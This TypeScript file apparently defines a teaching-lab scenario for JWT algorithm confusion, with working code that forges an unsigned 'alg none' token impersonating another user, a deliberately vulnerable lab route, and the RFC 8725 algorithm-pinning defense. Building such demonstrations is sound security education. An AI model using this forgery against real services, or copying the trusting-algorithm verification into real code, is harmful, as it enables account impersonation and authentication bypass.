import { PARTY_HEADER, ATTACKER } from '../../../lib/attacks/party';
import type { AttackScenario } from '../../../lib/attacks/types';
import type { WalkthroughContext } from '../../../lib/walkthrough/types';
import { RFC } from '../../walkthrough/common-steps';
import { demoOwner, passwordForm, tokenRequest } from '../../walkthrough/builders/token-request';
import { attackerRole, errorOf, isOn, observed, refusalObserved } from '../common-steps';
import { apiReader } from './clients';
import { base64url } from 'jose';
import { jwtPayload } from '../../../lib/tokens/jwt-parts';
import { rfcSection } from '../../../lib/walkthrough/rfc';
import { subjectOf, tokenResponseOf } from '../../../lib/walkthrough/response-bodies';

const PIN = 'defense_pin';
const PIN_RFC = rfcSection(8725, '3.1');
const TRUSTING = '/attacks/resource-server/trusting-alg';
const PINNED = '/attacks/resource-server/pinned';
const asAttacker = { [PARTY_HEADER]: ATTACKER };

const encode = (text: string) => base64url.encode(text);

const claimsOf = (token: string): Record<string, unknown> => jwtPayload(token) ?? {};

/**
 * RFC 8725 §2.1: the attacker's own real token, its claims kept but sub changed to alice, the header
 * changed to alg none, the signature dropped.
 */
export function forgeAlgNone(token: string, sub: string): string {
  const header = encode(JSON.stringify({ alg: 'none', typ: 'at+jwt' }));
  return `${header}.${encode(JSON.stringify({ ...claimsOf(token), sub }))}.`;
}

const routeOf = (context: WalkthroughContext) => (isOn(context, PIN) ? PINNED : TRUSTING);

/** RFC 8725 §2.1: a resource server that lets the token choose its algorithm takes alg none. */
export const jwtAlgorithmConfusion: AttackScenario = {
  slug: 'jwt-algorithm-confusion',
  name: 'JWT algorithm confusion',
  attack: 'A resource server that trusts the token’s alg header accepts a forged, unsigned token.',
  clientId: apiReader.client_id,
  clientType: 'public',
  clients: [apiReader],
  vulnerableRoutes: [TRUSTING],
  roles: [attackerRole],
  summary:
    'JWT access tokens are checked by the resource server itself, with the issuer’s keys. A library that reads the algorithm from the token’s own header will, for alg none, check nothing. The attacker takes a real token of its own (bob), rewrites sub to alice, sets alg none and drops the signature; the lab resource server that trusts alg answers as alice.',
  defaults: { [PIN]: 'off' },
  defenses: [
    {
      param: PIN,
      label: 'Defense: pin the algorithm and key',
      does: 'The resource server accepts only ES256, the algorithm this issuer signs with, verified with the issuer’s published keys, for its own issuer and audience, whatever the token’s header says. An unsigned token is refused.',
      rfc: PIN_RFC,
    },
  ],
  secrets: async () => ({}),
  serverSide: {
    error:
      'the authorization server never sees the forged token. The lab resource server answers 401 invalid_token with jose’s reason',
    why: 'The authorization server signed a real token for bob with ES256 and that token is still valid. The forgery happens on the attacker’s side and is checked only at the resource server, so only its verification policy decides: jose’s jwtVerify with algorithms: ["ES256"] and the issuer’s key set cannot take alg none.',
  },
  incident: {
    text: '2015: Tim McLean showed that many JWT libraries accepted alg none, or verified HS256 with an RSA public key as the secret, letting anyone forge tokens; RFC 8725 was written to stop it.',
    href: 'https://auth0.com/blog/critical-vulnerabilities-in-json-web-token-libraries/',
    source: 'Auth0 blog',
  },
  steps: [
    {
      id: 'attacker-token',
      title: 'The attacker gets a real token, for its own account',
      explanation:
        'The attacker signs in as bob with an app of its own and asks for a token for the playground’s API: a JWT signed by the authorization server with ES256. It now knows exactly what a valid token looks like.',
      rfc: RFC.tokenResponse,
      from: 'attacker',
      to: 'authorization-server',
      channel: 'back',
      action: ({ origin }) =>
        tokenRequest(
          passwordForm(demoOwner('bob'), 'read', {
            resource: `${origin}/api`,
            client_id: apiReader.client_id,
          }),
          { via: 'browser', headers: asAttacker },
        ),
      outcome: (_context, result) => {
        const token = tokenResponseOf(result.body).access_token;
        // Without a real token of its own the attacker has nothing to copy: the run stops, no verdict.
        if (result.status !== 200 || token === undefined) return { kind: 'failed', error: errorOf(result) };
        return { kind: 'succeeded', values: { attacker_token: token } };
      },
    },
    {
      id: 'forged-call',
      title: 'The attacker presents a forged token: alg none, sub alice',
      explanation:
        'The attacker keeps the real token’s claims, changes sub to alice, sets the header to alg none and drops the signature, then calls the resource server with it.',
      rfc: PIN_RFC,
      from: 'attacker',
      to: 'resource-server',
      channel: 'back',
      action: (context) => ({
        kind: 'send',
        via: 'browser',
        request: {
          method: 'GET',
          path: routeOf(context),
          headers: {
            ...asAttacker,
            authorization: `Bearer ${forgeAlgNone(context.values.attacker_token ?? '', 'alice')}`,
          },
        },
      }),
      outcome: (_context, result) => {
        const sub = subjectOf(result.body);
        return observed('forged', result, sub !== undefined ? { forged_sub: sub } : {});
      },
    },
  ],
  handOff: {
    takesNothing:
      'The attacker needs nothing of alice’s: it gets a real token for its own account (bob) and forges the rest.',
  },
  verdict: ({ values }) => {
    if (values.forged_status === undefined) return undefined;
    if (values.forged_status === '200' && values.forged_sub === 'alice')
      return {
        outcome: 'succeeded',
        proof:
          'The resource server took a token with alg none and no signature and answered as alice (sub: alice).',
      };
    if (values.forged_status === '200') return undefined;
    return {
      outcome: 'blocked',
      by: 'the resource server (algorithm pinned to ES256, the issuer’s keys)',
      error: refusalObserved(values, 'forged'),
    };
  },
};
